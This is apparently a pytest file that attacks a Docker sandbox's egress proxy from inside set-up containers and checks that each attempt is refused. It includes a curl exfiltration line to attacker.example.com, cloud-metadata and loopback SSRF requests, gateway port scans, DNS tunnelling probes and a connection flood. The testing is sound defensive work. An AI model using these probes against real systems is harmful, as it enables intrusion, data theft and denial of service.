"""Attacks on the set-up network from inside set-up containers, on the real engine."""

from __future__ import annotations

import contextlib
import socket
import threading
import time
import uuid
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from sandbox import policy
from sandbox.egress import Gate
from sandbox.engine import Engine
from sandbox.environments import DockerSandbox
from sandbox.errors import NetworkDenied, SetupFailed
from sandbox.images.build import resolve
from sandbox.networks import labelled
from sandbox.reaper import remove_all
from sandbox.spec import Plan, Step
from sandbox.stream import Caps
from tests.sandbox.conftest import CA_BUNDLE, PRIVATE_HOSTS, STATE
from tests.sandbox.trees import tree

pytestmark = pytest.mark.engine
CHECK = Step("check", "true")
SECRET = "the host's own secret"

PROXIED = """
import json, os, socket, sys
from urllib.parse import urlsplit
proxy = urlsplit(os.environ["HTTPS_PROXY"])
def ask(head):
    with socket.create_connection((proxy.hostname, proxy.port), 5) as asked:
        asked.settimeout(20)
        asked.sendall(head.encode() + b"\\r\\n\\r\\n")
        return asked.recv(4096).decode()
"""
DIRECT = """
import socket
def reaches(address, port, device=None, seconds=1.5):
    with socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET) as knocking:
        knocking.settimeout(seconds)
        try:
            if device:
                knocking.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, device)
            knocking.connect((address, port))
            knocking.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
            return knocking.recv(100) != b""
        except OSError:
            return False
"""


def look(sandbox: DockerSandbox, script: str, shell: str = "python {0}", image: str = "python") -> str:
    """What a set-up step prints; it ends with an error, so that nothing is kept."""
    end = "\nraise SystemExit(9)\n" if shell.startswith("python") else "\nexit 9\n"
    recipe = Plan(image, (Step("look", script + end, shell),), CHECK, trust=uuid.uuid4().hex)
    with pytest.raises(SetupFailed) as caught:
        sandbox.prepare(recipe, tree())
    assert caught.value.exit_code == 9, caught.value.log
    return caught.value.log


def own_addresses() -> list[str]:
    """The addresses by which this machine would speak to the world, where it has a route there."""
    found = []
    for family, far in ((socket.AF_INET, "198.51.100.1"), (socket.AF_INET6, "2001:db8::1")):
        with socket.socket(family, socket.SOCK_DGRAM) as speaker, contextlib.suppress(OSError):
            speaker.connect((far, 9))  # sends nothing
            found.append(str(speaker.getsockname()[0]))
    return found


@pytest.fixture
def host_server() -> Iterator[int]:
    """A service of the host on all its addresses, as a database with a careless configuration would be."""

    class Answer(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.end_headers()
            self.wfile.write(SECRET.encode())

        def log_message(self, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("0.0.0.0", 0), Answer)  # noqa: S104 - that is the attack
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield int(server.server_address[1])
    server.shutdown()
    thread.join()
    server.server_close()


def test_system_packages_by_http(sandbox: DockerSandbox) -> None:
    """apt finds the mirror through the proxy, by plain HTTP, and installs a package from it without asking."""
    log = look(
        sandbox, "apt-get -o Acquire::Languages=none update -qq && apt-get install -qq hello && hello", "bash -e {0}"
    )
    assert "Hello, world!" in log


def test_other_hosts_are_refused_and_named(sandbox: DockerSandbox) -> None:
    """A host that is not listed gets 403, and the failed set-up's log says which host that was and why. Only a step
    that fails after a refusal of its own failed for want of the network."""
    asks = "curl -sS https://attacker.example.com/?stolen=1 || true"
    recipe = Plan("python", (Step("tells", asks), Step("asks", f"{asks}\nexit 9")), CHECK, trust=uuid.uuid4().hex)
    with pytest.raises(NetworkDenied) as caught:
        sandbox.prepare(recipe, tree())
    assert caught.value.hosts == ("attacker.example.com",)
    assert caught.value.step == "asks"
    assert "403" in caught.value.log
    assert "the egress proxy refused: attacker.example.com (not on the allow-list)" in caught.value.log
    recipe = replace(recipe, setup=(Step("tells", asks), Step("breaks", "sleep 0.3; exit 9")))
    with pytest.raises(SetupFailed) as caught_too:
        sandbox.prepare(recipe, tree())
    assert type(caught_too.value) is SetupFailed
    assert "refused: attacker.example.com" in caught_too.value.log


def test_refused_hosts_stay_with_the_environment(sandbox: DockerSandbox) -> None:
    """An environment whose set-up was refused a host and went on says so in its notes, found again too."""
    script = f"curl -sS https://telemetry.example.com || true # {uuid.uuid4().hex}"
    recipe = Plan("python", (Step("install", script),), CHECK)
    note = "the egress proxy refused: telemetry.example.com (not on the allow-list)"
    assert sandbox.prepare(recipe, tree()).notes == (note,)
    assert sandbox.prepare(recipe, tree()).notes == (note,)


def test_refusals_are_told_apart(sandbox: DockerSandbox) -> None:
    """Two set-ups at once are each told of their own refused hosts only."""
    scripts = [f"for i in 1 2 3; do curl -sS https://{name}.example.com || true; done" for name in ("one", "two")]
    with ThreadPoolExecutor(2) as pool:
        one, two = pool.map(lambda script: look(sandbox, script, "bash {0}"), scripts)
    assert "refused: one.example.com" in one
    assert "refused: two.example.com" not in one
    assert "refused: two.example.com" in two
    assert "refused: one.example.com" not in two


def test_ports_schemes_and_addresses_are_refused(sandbox: DockerSandbox, host_server: int) -> None:
    """Through the proxy there is no other port, no plain HTTP to an index, no address, no metadata, no host service."""
    asked = [
        "CONNECT pypi.org:6379 HTTP/1.1", "CONNECT pypi.org:5432 HTTP/1.1", "CONNECT pypi.org:22 HTTP/1.1",
        "GET http://pypi.org/simple/ HTTP/1.1", "CONNECT 169.254.169.254:443 HTTP/1.1",
        "GET http://169.254.169.254/latest/meta-data/ HTTP/1.1", f"GET http://172.17.0.1:{host_server}/ HTTP/1.1",
        "CONNECT 172.17.0.1:443 HTTP/1.1", "CONNECT metadata.google.internal:443 HTTP/1.1",
        "CONNECT [::1]:443 HTTP/1.1", "CONNECT [fd00:ec2::254]:443 HTTP/1.1", "CONNECT 2130706433:443 HTTP/1.1",
        "POST http://deb.debian.org/ HTTP/1.1",
        f"CONNECT localhost:{host_server} HTTP/1.1", "GET http://host.docker.internal/ HTTP/1.1",
    ]  # fmt: skip
    script = f"print(json.dumps([ask(head)[:12] for head in {asked!r}]), ask('CONNECT pypi.org:443 HTTP/1.1')[:12])"
    log = look(sandbox, PROXIED + script)
    assert log.count('"HTTP/1.1 403"') == len(asked), log
    assert "] HTTP/1.1 200" in log


@contextlib.contextmanager
def neighbour(sandbox: DockerSandbox, engine: Engine) -> Iterator[tuple[str, Gate]]:
    """Another set-up at the same time, which serves on all its addresses; its address and its gate."""
    assert sandbox.egress is not None
    labels = policy.Labels(sandbox.owner, uuid.uuid4().hex, "probe", "neighbour", time.time() + 600)
    serve = ["/opt/heal/python", "-m", "http.server", "8000"]
    with sandbox.egress.opened(labels) as gate:
        settings = policy.probe_container(resolve("debian"), serve, gate.network.name, labels)
        life = engine.begin(settings, Caps(4096, 4096, 4096, 1 << 20))
        try:
            container = engine.client().containers.get(life.id)
            address = str(container.attrs["NetworkSettings"]["Networks"][gate.network.name]["IPAddress"])
            knock = ["/opt/heal/python", "-c", f"import socket; socket.create_connection(('{address}', 8000), 5)"]
            limit = time.monotonic() + 20
            while container.exec_run(knock).exit_code and time.monotonic() < limit:
                time.sleep(0.1)
            assert container.exec_run(knock).exit_code == 0  # it does serve
            yield address, gate
        finally:
            life.remove()


@pytest.mark.fault(36)
def test_nothing_is_reached_past_the_proxy(sandbox: DockerSandbox, host_server: int, engine: Engine) -> None:
    """No address answers directly: the internet's, the metadata service's, the host's own, nor a neighbour's.

    The host's service is asked on the network's gateway, on the engine's bridge, on the host's other addresses; each
    address with the route and past it (by binding to the device). A neighbour is asked itself and on its proxy's side.
    """
    assert sandbox.egress is not None
    proxy = engine.client().containers.get(sandbox.egress.proxy()).attrs["NetworkSettings"]["Networks"]["bridge"]
    with neighbour(sandbox, engine) as (beside, gate):
        hosts = [str(proxy["Gateway"]), gate.network.gateway, *own_addresses()]
        targets = [(address, host_server) for address in hosts]
        targets += [("1.1.1.1", 443), ("203.0.113.80", 443), ("169.254.169.254", 80), ("fd00:ec2::254", 80)]
        targets += [(str(proxy["IPAddress"]), 3128), (gate.network.proxy, 3128), (beside, 8000)]
        script = DIRECT + (
            "import ipaddress\n"
            "from pathlib import Path\n"
            "from concurrent.futures import ThreadPoolExecutor\n"
            "own = ipaddress.ip_interface(socket.gethostbyname(socket.gethostname()) + '/28').network\n"
            f"targets = {targets!r} + [(str(own[1]), {host_server}), ('ff02::1%eth0', {host_server})]\n"
            "ways = [(*target, device) for target in targets for device in (None, b'eth0')]\n"
            "with ThreadPoolExecutor(20) as pool:\n"
            "    print('REACHED', [way for way, yes in zip(ways, pool.map(lambda way: reaches(*way), ways)) if yes])\n"
            "    ports = [*range(1, 3128), *range(3129, 4096), 5353, 6379, 8080, 9090, 10250]\n"
            "    found = pool.map(lambda port: socket.socket().connect_ex((str(own[2]), port)), ports)\n"
            "    print('OPEN', [port for port, error in zip(ports, found) if error == 0])\n"
            "six = Path('/proc/net/if_inet6')\n"
            "print('SIX', six.exists() and 'eth0' in six.read_text())\n"
        )
        log = look(sandbox, script)
    assert "REACHED []" in log
    assert "OPEN []" in log  # the proxy serves requests and nothing to manage it by
    assert "SIX False" in log


def test_a_tunnel_is_for_the_host_that_it_names(sandbox: DockerSandbox) -> None:
    """TLS through a tunnel works for the host that was asked for, and for no other behind the same address; the log
    tells which was meant."""
    script = (
        PROXIED
        + """
import ssl
def tls(host, name):
    with socket.create_connection((proxy.hostname, proxy.port), 5) as asked:
        asked.settimeout(20)
        asked.sendall(f"CONNECT {host}:443 HTTP/1.1\\r\\n\\r\\n".encode())
        asked.recv(4096)
        context = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
        context.check_hostname = name is not None
        try:
            return context.wrap_socket(asked, server_hostname=name).version()
        except ssl.SSLError as error:
            return error.reason
print("SAME", tls("pypi.org", "pypi.org"))
print("FRONTED", tls("pypi.org", "files.pythonhosted.org"))
print("UNNAMED", tls("pypi.org", None))
"""
    )
    log = look(sandbox, script)
    assert "SAME TLSv1" in log
    assert "FRONTED TLSV1_UNRECOGNIZED_NAME" in log
    assert "UNNAMED TLSV1_UNRECOGNIZED_NAME" in log
    assert "refused: pypi.org (its TLS is for files.pythonhosted.org)" in log


@pytest.mark.fault(36)
def test_names_do_not_resolve_inside(sandbox: DockerSandbox) -> None:
    """No name is looked up for set-up, so no name can carry anything out: neither listed hosts' nor made-up ones."""
    script = """
import ipaddress, socket
for name in ("pypi.org", "stolen-data.attacker.example.com"):
    try:
        print("RESOLVED", name, socket.getaddrinfo(name, 443))
    except socket.gaierror:
        print("UNKNOWN", name)
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
    asking.settimeout(3)
    question = b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x04pypi\\x03org\\x00\\x00\\x01\\x00\\x01"
    asking.sendto(question, ("127.0.0.11", 53))
    try:
        print("ANSWERS", asking.recv(512)[6:8])
    except OSError:
        print("ANSWERS none")
own = ipaddress.ip_interface(socket.gethostbyname(socket.gethostname()) + "/28").network
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
    asking.settimeout(1)
    for address in (own[1], own[2]):
        asking.sendto(question, (str(address), 53))
        try:
            print("TUNNEL", asking.recvfrom(512))
        except OSError:
            print("NO TUNNEL")
"""
    log = look(sandbox, script)
    assert log.count("UNKNOWN") == 2, log
    assert "ANSWERS none" in log or "ANSWERS b'\\x00\\x00'" in log
    assert log.count("NO TUNNEL") == 2, log


def test_garbage_does_not_end_the_proxy(sandbox: DockerSandbox) -> None:
    """Floods of rubbish and half-open connections from a set-up container leave the proxy working for the next."""
    script = (
        PROXIED
        + """
held = []
for number in range(120):
    held.append(socket.create_connection((proxy.hostname, proxy.port), 5))
    try:
        held[-1].sendall(os.urandom(5000) if number % 2 else b"CONNECT ")
    except OSError:
        pass
print("DONE")
"""
    )
    assert "DONE" in look(sandbox, script)
    assert "HTTP/1.1 200" in look(sandbox, PROXIED + "print(ask('CONNECT pypi.org:443 HTTP/1.1'))")


def test_private_addresses_need_the_operators_word(sandbox: DockerSandbox, engine: Engine) -> None:
    """A listed name with an inner address is refused; loopback stays refused even if it is named."""
    made = DockerSandbox(
        None, sandbox.owner, state_dir=STATE, allowed_hosts=("localhost", "*.corp.test"), private_hosts=("localhost",)
    )
    log = look(made, PROXIED + "print(ask('CONNECT localhost:443 HTTP/1.1'), ask('CONNECT a.corp.test:443 HTTP/1.1'))")
    assert "403" in log
    assert "refused: localhost (its address" in log
    assert "502" in log
    assert "refused: a.corp.test (its name does not resolve)" in log
    made.close()


def test_open_network_only_when_asked_for(sandbox: DockerSandbox, host_server: int) -> None:
    """With `setup_network` "open" there is no proxy, the host's service answers, and doctor says what that means."""
    made = DockerSandbox(None, sandbox.owner, ca_bundle=CA_BUNDLE, state_dir=STATE, setup_network="open")
    script = f"""
import os
from pathlib import Path
routes = [line.split() for line in Path("/proc/net/route").read_text().splitlines()]
gateway = next(bytes.fromhex(words[2])[::-1] for words in routes if words[1] == "00000000")
print("PROXY", os.environ.get("HTTPS_PROXY"), "HOST", reaches(".".join(map(str, gateway)), {host_server}, seconds=30))
"""
    log = look(made, DIRECT + script)
    assert "PROXY None HOST True" in log  # so the attacks above are real ones
    (finding,) = [finding for finding in made.doctor() if finding.what == "set-up network"]
    assert not finding.ok
    made.close()


def test_no_step_no_network(sandbox: DockerSandbox, engine: Engine) -> None:
    """A plan without set-up steps starts no proxy."""
    owner = f"{sandbox.owner}-none"
    made = DockerSandbox(None, owner, state_dir=STATE)
    made.prepare(Plan("debian", (), CHECK), tree())
    assert not engine.containers(f"heal.owner={owner}")
    assert not labelled(engine, f"heal.owner={owner}")
    remove_all(engine, owner)
    made.close()


def test_doctor_leaves_nothing(engine: Engine) -> None:
    """Looking at the set-up network leaves no proxy and no network, and tells of both: gateway and package hosts."""
    owner = f"tests-{uuid.uuid4().hex[:12]}"
    made = DockerSandbox(None, owner, state_dir=STATE, private_hosts=PRIVATE_HOSTS)
    findings = {finding.what: finding for finding in made.doctor()}
    assert findings["set-up network"].ok
    assert findings["package hosts"].ok
    assert not engine.containers(f"heal.owner={owner}")
    assert not labelled(engine, f"heal.owner={owner}")
    made.close()
